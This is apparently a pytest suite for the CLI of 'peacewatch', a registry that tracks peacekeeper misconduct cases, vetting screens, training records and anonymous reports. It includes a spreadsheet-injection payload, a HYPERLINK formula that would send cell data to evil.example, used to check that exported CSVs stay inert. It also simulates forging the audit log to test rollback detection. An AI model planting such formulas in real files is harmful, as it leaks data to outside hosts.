"""The ``peacewatch registry`` commands end to end, on a fresh database."""

from __future__ import annotations

import json
import re

import pytest
from typer.testing import CliRunner

from peacewatch.cli import app

runner = CliRunner()


def run(*args, env=None):
    return runner.invoke(app, ["registry", *args], env=env)


@pytest.fixture
def cli_env(tmp_path, monkeypatch):
    monkeypatch.delenv("PEACEWATCH_SECRET_KEY")
    monkeypatch.chdir(tmp_path)
    r = runner.invoke(app, ["registry", "init", "--password-stdin"], input="first-coordinator\n")
    assert r.exit_code == 0, r.output
    assert (tmp_path / "out" / "registry.key").exists()
    token = (tmp_path / "out" / "registry-coordinator.txt").read_text().split("token: ")[1].strip()
    monkeypatch.setenv("PEACEWATCH_TOKEN", token)
    return tmp_path


def test_init_is_idempotent(cli_env):
    r = run("init")
    assert r.exit_code == 0 and "users exist already" in r.output


def test_case_commands_and_audit(cli_env):
    r = runner.invoke(
        app,
        ["registry", "users", "create", "liaison", "--role", "tcc_liaison", "--tcc", "770", "--password-stdin"],
        input="liaison-amber-harbour\n",
    )
    assert r.exit_code == 0, r.output
    liaison = json.loads(r.output)["token"]
    r = run(
        "cases",
        "create",
        "--mission",
        "MINUSTAH",
        "--tcc",
        "770",
        "--category",
        "sexual_exploitation",
        "--summary",
        "food for sex",
        "--subject",
        "Sgt. X",
        "--victim-json",
        '{"name": "V"}',
    )
    assert r.exit_code == 0, r.output
    cid = json.loads(r.output)["id"]
    r = run("cases", "transition", str(cid), "closed")
    assert r.exit_code == 2 and "allowed next statuses: under_investigation" in r.output
    for st in ("under_investigation", "substantiated", "referred_to_tcc"):
        assert run("cases", "transition", str(cid), st).exit_code == 0
    r = run(
        "cases", "transition", str(cid), "national_investigation_appointed", "--officer", "Col. Y", "--token", liaison
    )
    assert r.exit_code == 0, r.output
    shown = json.loads(run("cases", "show", str(cid)).output)
    assert shown["status"] == "national_investigation_appointed" and len(shown["events"]) == 5
    listed = json.loads(run("cases", "list", "--status", "national_investigation_appointed", "--json").output)
    assert [c["id"] for c in listed] == [cid]
    far = run("referrals", "overdue", "--as-of", "2100-01-01", "--json")
    assert [i["deadline"] for i in json.loads(far.output)] == ["outcome"]
    ext = json.loads(run("referrals", "extend", str(shown["referral"]["id"]), "--days", "150").output)
    assert ext["outcome_extended"] is True
    assert json.loads(run("cases", "victim", str(cid)).output) == {"name": "V"}
    r = run("cases", "victim", str(cid), "--token", liaison)
    assert r.exit_code == 2 and "may not do this" in r.output
    assert run("audit", "verify").output.startswith("audit log intact")
    r = run("cases", "list", "--token", "wrong")
    assert r.exit_code == 2 and "invalid or revoked token" in r.output


def test_vetting_compliance_training_intake(cli_env):
    (cli_env / "records.csv").write_text(
        "full_name,date_of_birth,nationality,category\nЮрий Иванов,1970-05-06,365,trafficking_related\n",
        encoding="utf-8",
    )
    (cli_env / "roster.csv").write_text(
        "name,date_of_birth,nationality\nYuri Ivanov,1970-06-05,365\nAnna Berg,1990-01-01,380\n", encoding="utf-8"
    )
    assert "imported 1 records" in run("vetting", "import-records", "records.csv").output
    r = run("vetting", "screen", "roster.csv", "--out", "hits.csv")
    assert r.exit_code == 0 and "1 hits" in r.output, r.output
    assert "screening roster.csv: 2 roster rows in" in r.stderr  # the progress display ends with the count
    assert "importing" not in r.stdout and "screening roster.csv" not in r.stdout  # stdout stays the command's answer
    hits = (cli_env / "hits.csv").read_text(encoding="utf-8")
    assert "Юрий Иванов" in hits and "Yuri Ivanov" in hits
    (cli_env / "bad.csv").write_text("name,date_of_birth,nationality\nA,2001-02-30,2\n", encoding="utf-8")
    r = run("vetting", "screen", "bad.csv")
    assert r.exit_code == 2 and "bad.csv row 2: date_of_birth '2001-02-30'" in r.output
    r = run("compliance", "submit", "--nation", "2", "--year", "2007", "--ratification", "met", "--training", "partial")
    assert r.exit_code == 0, r.output
    assert "0.75" in run("compliance", "show").output
    assert run("training", "add-module", "THB-1", "THB awareness").exit_code == 0
    assert (
        run("training", "add-person", "US-1", "A Person", "--nation", "2", "--deployment-year", "2007").exit_code == 0
    )
    assert run("training", "complete", "US-1", "THB-1", "--completed-on", "2007-01-02").exit_code == 0
    assert "1.0" in run("training", "show", "--unsuppressed").output
    # The published table (what every door shows by default) blanks the single person.
    assert "1.0" not in run("training", "show").output
    r = run("intake", "submit", "--message", "I saw something")
    receipt = r.output.split("receipt: ")[1].strip()
    assert len(receipt) == 20
    assert json.loads(run("intake", "read", receipt).output)["messages"][0]["text"] == "I saw something"


def test_hits_csv_never_carries_a_formula(cli_env):
    """The issue's example: a record named like a formula lands in hits.csv as inert text."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Ahmed Karimov")'
    (cli_env / "records.csv").write_text(
        "full_name,date_of_birth,nationality,category\n"
        f'"{evil.replace(chr(34), chr(34) * 2)}",1980-01-02,700,sexual_abuse\n',
        encoding="utf-8",
    )
    # The roster is uploaded text too: here it carries the same formula.
    (cli_env / "roster.csv").write_text(
        f'name,date_of_birth,nationality\n"{evil.replace(chr(34), chr(34) * 2)}",1980-01-02,700\n', encoding="utf-8"
    )
    assert "imported 1 records" in run("vetting", "import-records", "records.csv").output
    r = run("vetting", "screen", "roster.csv", "--out", "hits.csv", "--threshold", "0.5")
    assert r.exit_code == 0 and "1 hits" in r.output, r.output
    import csv

    with open(cli_env / "hits.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    cells = [v for row in rows for v in row.values()]
    assert cells.count("'" + evil) == 2  # record name and roster name, both inert
    assert not any(v[:1] in "=+@\t\r" for v in cells if v)
    assert not any(v.startswith("-") and not v.lstrip("-").replace(".", "").isdigit() for v in cells if v)


def test_audit_checkpoint_verify_and_prove(cli_env):
    """The exported checkpoint catches a truncated tail even after the head and checkpoints are forged."""
    import sqlite3

    out = cli_env / "out"
    for i in range(3):
        assert (
            run(
                "cases",
                "create",
                "--mission",
                "UNMISS",
                "--tcc",
                "770",
                "--category",
                "sexual_abuse",
                "--summary",
                f"case {i}",
            ).exit_code
            == 0
        )
    r = run("audit", "checkpoint", "--out", str(cli_env / "cp.txt"))
    assert r.exit_code == 0 and "checkpoint of 4 entries" in r.output, r.output
    assert (cli_env / "cp.txt").stat().st_mode & 0o777 == 0o600
    key = run("audit", "public-key").output.strip()
    assert re.match(r"peacewatch\.registry/audit-log-[0-9a-f]{12}\+", key), key  # unique per deployment
    r = run("audit", "verify", "--checkpoint", str(cli_env / "cp.txt"), "--key", key)
    assert r.exit_code == 0 and "intact: 4 entries" in r.output and "extends 1 checkpoint" in r.output, r.output
    proof = json.loads(run("audit", "prove", "2").output)
    assert proof["tree_size"] == 4 and proof["entry"]["action"] == "create" and proof["entry"]["entity"] == "case"
    assert run("audit", "prove", "9").exit_code == 2
    # A database administrator removes the last entry and rebuilds the tree head and checkpoints.
    db = sqlite3.connect(out / "peacewatch.sqlite")
    db.execute("DELETE FROM audit_log WHERE seq = 4")
    db.execute("DELETE FROM audit_checkpoints")
    db.execute("DELETE FROM audit_tree")
    db.commit()
    db.close()
    from sqlalchemy import delete, insert, select

    from peacewatch.registry import audit, merkle
    from peacewatch.registry.service import Registry

    reg = Registry(f"sqlite:///{out / 'peacewatch.sqlite'}")
    with reg.session() as s:
        leaves = [
            bytes.fromhex(h) for h in s.execute(select(audit.LOG.c.leaf_hash).order_by(audit.LOG.c.seq)).scalars()
        ]
        f = merkle.Frontier()
        for h in leaves:
            f.append(h)
        s.execute(delete(audit.TREE))
        s.execute(insert(audit.TREE).values(id=1, size=f.size, root=f.root().hex(), frontier=f.dumps()))
    reg.sequencer.sync()  # signs a fresh checkpoint of the forged head with the server's key
    reg.dispose()
    assert run("audit", "verify").exit_code == 0  # alone, the database agrees with itself
    r = run("audit", "verify", "--checkpoint", str(cli_env / "cp.txt"), "--key", key)
    assert r.exit_code == 1
    assert "holds only 3 entries" in r.output and "rolled back" in r.output
